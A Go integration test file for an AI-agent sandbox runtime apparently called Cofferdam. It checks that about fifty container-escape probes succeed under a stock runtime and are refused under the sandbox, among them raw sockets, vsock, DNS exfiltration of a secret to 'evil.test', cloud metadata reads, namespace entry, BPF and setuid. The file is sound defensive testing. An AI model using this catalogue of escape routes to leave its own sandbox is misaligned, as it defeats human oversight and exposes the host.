//go:build linux

package integration

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"cofferdam.dev/cofferdam/integration/ctrd"
	"cofferdam.dev/cofferdam/integration/lab"
	"cofferdam.dev/cofferdam/integration/outcome"
)

// An escape is something that an agent tries once. It has two tests: under the stock runtime, with the wall down, it succeeds, which shows
// that the probe can do it and that the lab sees it; under Cofferdam it is refused, and neither the internet nor the host sees anything.
//
// In an attempt {HOST} stands for the port of the host's service.
type escape struct {
	name    string   // continues "an agent cannot …"
	attempt string   // words are separated by single spaces
	control []string // attempts in order, of which the last shows the way; none means the attempt itself
	private bool     // the control must not change UPLINK: it gets a network namespace of its own
	errno   []string // one of these must be the answer; none means any refusal
	within  time.Duration
	answers bool // the proxy may answer; only the silence counts
	quiet   bool // nothing is sent even where it succeeds
}

var escapes = []escape{
	// The network wall, from the link up. Invariant I1; catalogue L.
	{name: "open a raw socket", attempt: "icmp 45.67.89.66", errno: []string{"EPERM"}},
	{name: "open a raw IPv6 socket", attempt: "icmp 2a0e:97c0:ffff::1", errno: []string{"EPERM"}},
	{name: "send another IP protocol", attempt: "raw 47 45.67.89.66", errno: []string{"EPERM"}},
	{
		name: "ping", attempt: "ping 45.67.89.66",
		control: []string{"write /proc/sys/net/ipv4/ping_group_range 0\t0", "ping 45.67.89.66"},
	},
	{name: "open a packet socket", attempt: "packet", control: []string{"packet uplink"}, errno: []string{"EPERM"}},
	{name: "talk to the hypervisor", attempt: "vsock", quiet: true},
	{name: "talk to the hypervisor through the 32-bit socket call", attempt: "vsock-int80-socket", quiet: true},
	{name: "talk to the hypervisor through the 32-bit socketcall", attempt: "vsock-int80-socketcall", quiet: true},
	{name: "talk to the hypervisor through the x32 socket call", attempt: "vsock-x32", quiet: true},
	{name: "open an AF_ALG socket", attempt: "socket 38 5 0", quiet: true},
	{name: "open an AF_XDP socket", attempt: "socket 44 3 0", quiet: true},
	{name: "open an SCTP socket", attempt: "socket 2 1 132", quiet: true},
	{name: "send UDP", attempt: "udp 45.67.89.66:51820 tunnel", errno: []string{"ECONNREFUSED", "ENETUNREACH", "EHOSTUNREACH", "EPERM"}, within: time.Second},
	{name: "use QUIC", attempt: "udp 45.67.89.10:443 initial", errno: []string{"ECONNREFUSED", "ENETUNREACH", "EHOSTUNREACH", "EPERM"}, within: time.Second},
	{name: "send UDP over IPv6", attempt: "udp [2a0e:97c0:ffff::1]:123 tunnel", errno: []string{"ECONNREFUSED", "ENETUNREACH", "EHOSTUNREACH", "EADDRNOTAVAIL", "EPERM"}, within: time.Second},
	{name: "connect to an address", attempt: "tcp 45.67.89.66:443 hello", control: []string{"https 45.67.89.66:443 evil.test"}, within: time.Second},
	{name: "connect to an address on another port", attempt: "tcp 45.67.89.66:5432 hello", within: time.Second},
	{name: "connect over IPv6", attempt: "tcp [2a0e:97c0:ffff::1]:5432 hello", within: time.Second},
	{name: "connect to an IPv4 address that is mapped to IPv6", attempt: "tcp [::ffff:45.67.89.66]:5432 hello", within: time.Second},
	{name: "connect to a NAT64 address", attempt: "tcp [64:ff9b::2d43:5942]:5432 hello", within: time.Second},
	{name: "use DNS over TLS", attempt: "tcp 8.8.8.8:853 hello", within: time.Second},
	{name: "use DNS over HTTPS", attempt: "https 1.1.1.1:443 one.one.one.one", within: time.Second},
	{name: "tell a resolver a secret", attempt: "dns secret.evil.test 8.8.8.8:53 TXT", within: time.Second},
	{name: "tell a resolver a secret over TCP", attempt: "dns secret.evil.test 8.8.8.8:53 TXT tcp", within: time.Second},
	{name: "tell a resolver a secret over IPv6", attempt: "dns secret.evil.test [2001:4860:4860::8888]:53 TXT", within: time.Second},
	{name: "tell the authority of an allowed name a secret", attempt: "dns secret.good.test - TXT", within: time.Second},
	{name: "make a resolver ask for an allowed name", attempt: "dns good.test 8.8.8.8:53 A", answers: true},
	{name: "read the metadata service", attempt: "http 169.254.169.254:80 169.254.169.254 GET /latest/meta-data/", within: time.Second},

	// The host and its namespaces.
	{name: "reach a service on the host's loopback", attempt: "tcp 127.0.0.1:{HOST}", quiet: true},
	{name: "reach a service on the host's IPv6 loopback", attempt: "tcp [::1]:{HOST}", quiet: true},
	{name: "reach a service on the host's own address", attempt: "tcp 45.67.90.2:{HOST}", quiet: true},
	{name: "reach a service on the host through its side of the link", attempt: "tcp 10.200.0.1:{HOST}", control: []string{"tcp 45.67.90.2:{HOST}"}, quiet: true},
	{name: "reach an abstract socket of the host", attempt: "unix @cofferdam-lab-host", quiet: true},
	{name: "enter a network namespace", attempt: "setns /proc/1/ns/net", errno: []string{"EPERM", "EACCES"}, quiet: true},
	{
		name: "change the route", attempt: "route 10.200.0.9 eth0", private: true, errno: []string{"EPERM"}, quiet: true,
		control: []string{"link-add eth0", "link-up eth0", "addr-add eth0 10.200.0.2/30", "route 10.200.0.1 eth0"},
	},
	{name: "take the link down", attempt: "link-down eth0", private: true, control: []string{"link-add eth1", "link-up eth1", "link-down eth1"}, errno: []string{"EPERM"}, quiet: true},
	{name: "add an address", attempt: "addr-add eth0 45.67.90.77/24", private: true, control: []string{"addr-add lo 45.67.90.77/24"}, errno: []string{"EPERM"}, quiet: true},
	{name: "forward packets", attempt: "write /proc/sys/net/ipv4/ip_forward 1", private: true, quiet: true},
	{name: "become root of a user namespace", attempt: "in-userns euid", quiet: true},
	{name: "become root of a user namespace through clone3", attempt: "clone3-userns", quiet: true},
	{name: "make a network namespace of its own", attempt: "in-userns-net link-up lo", quiet: true},
	{name: "unshare the network namespace", attempt: fmt.Sprintf("unshare %d", unix.CLONE_NEWNET), quiet: true},

	// The kernel.
	{name: "use io_uring", attempt: "io-uring", quiet: true},
	{name: "use kernel keyrings", attempt: "keyctl", quiet: true},
	{name: "load BPF", attempt: "bpf", quiet: true},
	{name: "use userfaultfd", attempt: "userfaultfd", quiet: true},
	{name: "use perf events", attempt: "perf", quiet: true},
	{name: "type into a terminal", attempt: "type-ahead 0", private: true, errno: []string{"EPERM"}, quiet: true},
	{name: "type into a terminal with bits that the kernel ignores", attempt: "type-ahead 1", private: true, errno: []string{"EPERM"}, quiet: true},
	{name: "mount", attempt: "mount tmpfs none /tmp", private: true, quiet: true},
	{name: "unmount", attempt: "umount /proc", private: true, control: []string{"mount tmpfs none /home", "umount /home"}, quiet: true},
	{name: "open a device of the host", attempt: "mknod /tmp/kmsg c 1 11", control: []string{"mknod /root/kmsg c 1 11"}, quiet: true},
	{name: "gain privileges from a setuid file", attempt: "setuid-exec /usr/local/bin/probe-suid", quiet: true},
}

// unknown are the answers of a kernel that has no such thing: there is no way out there, with or without a wall.
var unknown = []string{"ENOSYS", "EAFNOSUPPORT", "EPROTONOSUPPORT", "ESOCKTNOSUPPORT"}

// fill replaces the placeholders of an attempt.
func fill(host *lab.Host, attempt string) []string {
	return strings.Split(strings.ReplaceAll(attempt, "{HOST}", host.TCP), " ")
}

func startHost(t testing.TB) *lab.Host {
	t.Helper()
	host, stop, err := lab.StartHost()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	return host
}

func TestEscapesSucceedWhereTheWallIsDown(t *testing.T) {
	eachEngine(t, func(t *testing.T, d *ctrd.Daemon) {
		l, host := lab.Get(t), startHost(t)
		open := Uncontained(t, d, "--allow-new-privs")
		private := d.StartContainer(t, ctrd.Container{Image: agentImage, Runtime: ctrd.Stock, Flags: []string{"--privileged"}})
		for _, e := range escapes {
			t.Run(e.name, func(t *testing.T) {
				box := open
				if e.private {
					box = private
				}
				mark, seen := l.Mark(t), host.Seen()
				for i, attempt := range append(e.control, e.attempt)[:max(1, len(e.control))] {
					got := box.Probe(t, fill(host, attempt)...)
					if !got.OK && slices.Contains(unknown, got.Errno) {
						t.Logf("this kernel has no such way: %s", got)
						return
					}
					if !got.OK {
						t.Errorf("control %d was refused: %s", i, got)
					}
				}
				if !e.quiet && len(l.Since(t, mark)) == 0 {
					t.Error("the internet saw nothing")
				}
				if strings.Contains(e.attempt, "{HOST}") && host.Seen() == seen {
					t.Error("the host's service saw nothing")
				}
			})
		}
	})
}

// check judges what an agent was told that tried to escape.
func (e escape) check(t testing.TB, got outcome.Outcome) {
	t.Helper()
	switch {
	case e.answers:
	case got.OK:
		t.Errorf("it succeeded: %s", got)
	case len(e.errno) > 0 && !slices.Contains(append(e.errno, unknown...), got.Errno):
		t.Errorf("got %s, want one of %v", got, e.errno)
	case e.within > 0 && got.Elapsed > e.within:
		t.Errorf("the refusal took %v, want at most %v", got.Elapsed, e.within)
	}
}

const onlyGood = `version: 1
network:
  unknown: deny
  rules:
    - allow: good.test
    - {allow: good.test, ports: [80], protocol: http}
    - {allow: ssh.good.test, ports: [22], protocol: ssh}
    - deny: bad.good.test
`

// greedy asks for what an agent must not have; the shim drops it.
var greedy = []string{
	"--allow-new-privs", "--cap-add", "CAP_NET_ADMIN", "--cap-add", "CAP_NET_RAW", "--cap-add", "CAP_SYS_ADMIN",
	"--cap-add", "CAP_BPF", "--cap-add", "CAP_PERFMON", "--cap-add", "CAP_SYS_PTRACE", "--net-host",
}

func TestAnAgentCannotEscape(t *testing.T) {
	Require(t, needShim)
	eachEngine(t, func(t *testing.T, d *ctrd.Daemon) {
		l, host, policy := lab.Get(t), startHost(t), Policy(t, onlyGood)
		for _, agent := range []struct {
			name  string
			flags []string
			user  string // of the execs: ctr 1.6 cannot say it for run
		}{{"that asks for nothing", nil, ""}, {"that asks for everything", greedy, ""}, {"that is not root", nil, "1000:1000"}} {
			t.Run(agent.name, func(t *testing.T) {
				box := Contained(t, d, policy, agent.flags...)
				box.User = agent.user
				for _, e := range escapes {
					t.Run(e.name, func(t *testing.T) {
						mark, seen := l.Mark(t), host.Seen()
						got := box.Probe(t, fill(host, e.attempt)...)
						l.Silent(t, mark)
						if host.Seen() != seen {
							t.Error("the host's service saw a connection")
						}
						e.check(t, got)
					})
				}
				// A wall without a gate would be silent, too.
				if got := box.Probe(t, "https", "good.test:443", "good.test"); !got.OK {
					t.Errorf("what is allowed is not reached: %s", got)
				}
			})
		}
	})
}

func TestAnAgentCannotReachAnotherSandbox(t *testing.T) {
	const port = "7777"
	eachEngine(t, func(t *testing.T, d *ctrd.Daemon) {
		attempt := []string{"tcp-any"}
		for _, addr := range []string{"10.200.0.2", "10.200.0.1", "127.0.0.1", lab.Uplink, "[::1]", "[" + lab.Uplink6 + "]"} {
			attempt = append(attempt, addr+":"+port)
		}
		serve := []string{"probe", "listen", port}
		t.Run("control", func(t *testing.T) {
			d.StartContainer(t, ctrd.Container{Image: agentImage, Runtime: ctrd.Stock, Flags: []string{"--net-host"}, Args: serve})
			box := Uncontained(t, d)
			eventually(t, "the other container is reached", func() bool { return box.Probe(t, attempt...).OK })
		})
		t.Run("contained", func(t *testing.T) {
			Require(t, needShim)
			policy := Policy(t, onlyGood)
			other := d.StartContainer(t, ctrd.Container{Image: agentImage, Runtime: ctrd.Cofferdam, Policy: policy, Args: serve})
			eventually(t, "the other sandbox serves itself", func() bool { return other.Probe(t, "tcp", "127.0.0.1:"+port).OK })
			l := lab.Get(t)
			box := Contained(t, d, policy)
			mark := l.Mark(t)
			if got := box.Probe(t, attempt...); got.OK {
				t.Errorf("it was reached: %s", got)
			}
			l.Silent(t, mark)
		})
	})
}

// Somebody who has broken every wall but I1 has the box's network namespace and all capabilities in it. There is still no path.
func TestABoxHasNoPathEvenForRoot(t *testing.T) {
	Require(t, needShim)
	eachEngine(t, func(t *testing.T, d *ctrd.Daemon) {
		l := lab.Get(t)
		box := Contained(t, d, Policy(t, onlyGood))
		ns := fmt.Sprintf("/proc/%d/ns/net", box.PID(t))
		for _, attempt := range []string{
			"packet eth0", "icmp 45.67.89.66", "icmp 2a0e:97c0:ffff::1", "raw 132 45.67.89.66", "raw 47 45.67.89.66", "raw 50 45.67.89.66",
			"udp 45.67.89.66:51820 tunnel", "udp 255.255.255.255:5353 all", "tcp 45.67.89.66:5432", "tcp [2a0e:97c0:ffff::1]:5432",
			"write /proc/sys/net/ipv4/ip_forward 1", "addr-add eth0 45.67.90.77/24", "addr-add eth0 2a0e:97c0:1::77/64", "route 45.67.90.1 eth0",
			"tcp 45.67.89.66:5432", "udp 45.67.89.66:51820 tunnel", "udp 9.9.9.9:53 tunnel", "icmp 45.67.89.66", "packet eth0",
		} {
			t.Run(attempt, func(t *testing.T) {
				mark := l.Mark(t)
				// Only the silence of the lab counts, and it needs no waiting: the fence is behind everything.
				got := ProbeIn(t, ns, append([]string{"-patience", "300ms"}, strings.Split(attempt, " ")...)...)
				l.Silent(t, mark)
				if strings.HasPrefix(attempt, "tcp") && got.OK {
					t.Errorf("it was reached: %s", got)
				}
			})
		}
	})
}

// eventually waits up to five seconds for a condition that nobody announces.
func eventually(t testing.TB, what string, ok func() bool) {
	t.Helper()
	for deadline := time.Now().Add(5 * time.Second); !ok(); time.Sleep(10 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("not in time: %s", what)
		}
	}
}
